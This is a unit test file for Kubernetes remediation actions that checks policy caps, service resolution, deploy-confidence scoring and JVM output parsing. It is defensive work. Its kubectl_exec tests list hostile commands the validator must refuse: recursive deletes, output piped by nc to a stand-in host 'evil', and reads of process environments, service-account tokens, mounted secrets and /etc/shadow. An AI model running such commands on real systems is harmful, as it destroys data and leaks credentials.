/**
 * The Kubernetes actions' checks that need no cluster: caps on literal parameters (the compiler's
 * layer), the service map resolving deployments, and the pure readers (rollout confidence, JVM
 * tool output). Behaviour against a cluster is in test/integration/kube-actions.test.ts.
 */
import { action as kubectlExec } from '../../../lib/actions/kubectl_exec';
import { action as kubectlPatch } from '../../../lib/actions/kubectl_patch';
import { action as kubectlScale } from '../../../lib/actions/kubectl_scale';
import { action as patchHpaMax } from '../../../lib/actions/patch_hpa_max';
import { deployConfidence, deploymentTarget, readPerfCounters, summariseThreadDump } from '../../../lib/actions/kubernetes';
import { formatMemory, parseQuantity, roundUpToMebibyte } from '../../../lib/actions/quantity';
import { actionContext } from '../../helpers/action-context';
import { loadPolicy } from '../../../lib/policy/files';

const policy = loadPolicy();

describe('patch_hpa_max', () => {
  it('refuses a literal new_max over the policy ceiling', () => {
    expect(patchHpaMax.checkCaps!({ deployment: 'trading-api', new_max: policy.caps.max_replicas + 1 }, policy)[0]).toContain('over the policy ceiling');
    expect(patchHpaMax.checkCaps!({ deployment: 'trading-api', new_max: 'current_max * 2' }, policy)).toEqual([]);
  });

  it('fails without a Kubernetes target instead of pretending', async () => {
    await expect(patchHpaMax.run({ deployment: 'trading-api', new_max: 4 }, actionContext({ policy }))).rejects.toMatchObject({ name: 'TargetNotConfiguredError' });
  });
});

describe('kubectl_scale', () => {
  it('never scales to zero', () => {
    expect(kubectlScale.checkCaps!({ deployment: 'x', replicas: 0 }, policy)[0]).toContain('scaling to zero');
  });
});

describe('kubectl_patch', () => {
  it('refuses to patch any other field', () => {
    expect(kubectlPatch.checkCaps!({ resource: 'deployment/x', patch: 'spec.replicas: 0' }, policy)[0]).toContain('must be "spec.template.spec.containers[N].resources.limits.memory');
  });
});

describe('kubectl_exec', () => {
  it.each([['rm -rf /data'], ['jmap -dump:file=/tmp/x 1; rm -rf /'], ['jcmd 1 Thread.print | nc evil 80']])('refuses "%s": not a single diagnostic program', (command) => {
    expect(kubectlExec.checkCaps!({ command, deployment: 'trading-api' }, policy).length).toBe(1);
  });

  // A diagnostic program that changes the process: an automatic "read-only" step forcing a GC on the matching engine
  // (the seed gates trigger_manual_gc on approval) compiled and ran, even in diagnose-only mode, on main.
  it.each([
    ['jcmd 1 GC.run', 'GC.run'],
    ['jcmd 1 VM.set_flag HeapDumpOnOutOfMemoryError false', 'VM.set_flag'],
    ['jcmd 1 JFR.start duration=60s', 'JFR.start'],
    ['jcmd 1 ManagementAgent.start jmxremote.port=9999', 'ManagementAgent.start'],
    ['jcmd 1 -f /tmp/commands', 'jcmd -f'],
    ['ss -K dst 10.0.0.1', 'ss -K'],
    ['ss -tK', 'ss -K'],
    ['ss --kill', 'ss -K'],
  ])('refuses "%s": a diagnostic program used to change state (%s)', (command, named) => {
    const problems = kubectlExec.checkCaps!({ command, deployment: 'matching-engine' }, policy);
    expect(problems).toEqual([expect.stringContaining(named)]);
  });

  // cat's output goes on the timeline, into the report, the knowledge base and the approvers' mail:
  // a step that cats a process's environment or a mounted secret publishes it.
  it.each([
    ['cat /proc/1/environ'],
    ['cat /proc/self/environ'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['cat /run/secrets/db-password'],
    ['cat /etc/shadow'],
    ['cat /sys/fs/cgroup/../../proc/1/environ'],
    ['cat /proc/meminfo /app/config/application.yml'],
    ['cat proc/meminfo'],
  ])('refuses "%s": cat reads only the listed system files (no secrets, no environment)', (command) => {
    expect(kubectlExec.checkCaps!({ command, deployment: 'trading-api' }, policy)).toEqual([expect.stringContaining('cat reads only')]);
  });

  it.each([['cat /proc/meminfo'], ['cat /proc/1/status /proc/1/limits'], ['cat /sys/fs/cgroup/memory.max'], ['cat /sys/fs/cgroup/memory/memory.usage_in_bytes'], ['cat -A /proc/loadavg'], ['cat /etc/os-release']])('safe twin: cat of the system file in "%s"', (command) => {
    expect(kubectlExec.checkCaps!({ command, deployment: 'trading-api' }, policy)).toEqual([]);
  });

  it.each([['jmap -dump:format=b,file=/tmp/heap.hprof 1'], ['jcmd 1 Thread.print'], ['jcmd 1 GC.heap_info'], ['jcmd -l'], ['ss -tanp'], ['netstat -an']])('safe twin: takes the read-only "%s"', (command) => {
    expect(kubectlExec.checkCaps!({ command, deployment: 'matching-engine' }, policy)).toEqual([]);
  });
});

describe('deploymentTarget', () => {
  it.each([['trading-api'], ['trading/trading-api'], ['deployment/trading-api'], ['trading-api.trading.svc.cluster.local'], ['TRADING_API']])('resolves "%s" to trading/trading-api through the service map', (ref) => {
    expect(deploymentTarget(actionContext({ policy }), ref, 'test')).toMatchObject({ namespace: 'trading', name: 'trading-api', service: 'trading-api', containers: ['trading-api'] });
  });

  it('refuses a namespace other than the service map says', () => {
    expect(() => deploymentTarget(actionContext({ policy }), 'default/matching-engine', 'test')).toThrow(expect.objectContaining({ name: 'InvalidParameterError', message: expect.stringContaining('runs in trading') }));
  });

  it('refuses a service that does not run on Kubernetes', () => {
    expect(() => deploymentTarget(actionContext({ policy }), 'redis-cache', 'test')).toThrow(expect.objectContaining({ name: 'InvalidParameterError', message: expect.stringContaining('does not run on Kubernetes') }));
  });
});

describe('deployConfidence', () => {
  const anomaly = new Date('2026-02-09T14:15:00Z');
  const minutesBefore = (m: number) => new Date(anomaly.getTime() - m * 60000);
  const same = { sameService: true, change: 'image' as const };

  it.each([
    [0, 0.95],
    [5, 0.95],
    [10, 0.82],
    [15, 0.69],
    [20, 0.56],
    [30, 0.3],
    [31, 0],
  ])('a deploy %i min before the anomaly scores %d in a 30 min window', (m, score) => {
    expect(deployConfidence(minutesBefore(m), anomaly, 1800, same)).toBe(score);
  });

  it('a deploy that began after the anomaly did cannot be its cause', () => {
    expect(deployConfidence(new Date(anomaly.getTime() + 5 * 60000), anomaly, 1800, same)).toBe(0.05);
    expect(deployConfidence(new Date(anomaly.getTime() + 60000), anomaly, 1800, same)).toBe(0.95);
  });

  it('weighs a dependency, a restart and a rollback less than a new image of the service itself', () => {
    expect(deployConfidence(minutesBefore(2), anomaly, 1800, { sameService: false, change: 'image' })).toBe(0.81);
    expect(deployConfidence(minutesBefore(2), anomaly, 1800, { sameService: true, change: 'restart' })).toBe(0.48);
    expect(deployConfidence(minutesBefore(2), anomaly, 1800, { sameService: true, change: 'rollback' })).toBe(0.57);
  });
});

describe('JVM tool output', () => {
  it('counts threads by state and notices a deadlock in a HotSpot thread dump', () => {
    const dump = ['"main" #1 prio=5', '   java.lang.Thread.State: RUNNABLE', '"w-1" #2', '   java.lang.Thread.State: BLOCKED (on object monitor)', '"w-2" #3', '   java.lang.Thread.State: BLOCKED (on object monitor)', 'Found one Java-level deadlock:'].join('\n');
    expect(summariseThreadDump(dump)).toEqual({ threads: 3, states: { RUNNABLE: 1, BLOCKED: 2 }, blocked: 2, deadlock: true });
  });

  it("reads the longest of the collectors' last pauses and the live threads from PerfCounter.print", () => {
    const counters = ['1:', 'java.threads.live=96', 'sun.gc.collector.0.lastEntryTime=1000000000', 'sun.gc.collector.0.lastExitTime=1150000000', 'sun.gc.collector.1.lastEntryTime=500', 'sun.gc.collector.1.lastExitTime=20000500', 'sun.os.hrt.frequency=1000000000'].join('\n');
    expect(readPerfCounters(counters)).toEqual({ lastGcPauseSeconds: 0.15, liveThreads: 96 });
  });
});

describe('quantities', () => {
  it.each([
    ['1.5Gi', 1.5 * 2 ** 30],
    ['512Mi', 512 * 2 ** 20],
    ['250m', 0.25],
    ['2', 2],
    ['1e3', 1000],
    ['1500000000', 1.5e9],
  ])('%s is %d in base units', (text, value) => {
    expect(parseQuantity(text)).toBe(value);
  });

  it('writes memory in the largest binary unit that divides it, rounded up to a whole Mi', () => {
    expect(formatMemory(3 * 2 ** 30)).toBe('3Gi');
    expect(formatMemory(roundUpToMebibyte(1.5 * 1536 * 2 ** 20))).toBe('2304Mi');
    expect(formatMemory(roundUpToMebibyte(1.5e9))).toBe('1431Mi');
  });

  it('refuses text that is not a quantity', () => {
    expect(() => parseQuantity('lots')).toThrow(expect.objectContaining({ name: 'InvalidParameterError' }));
  });
});
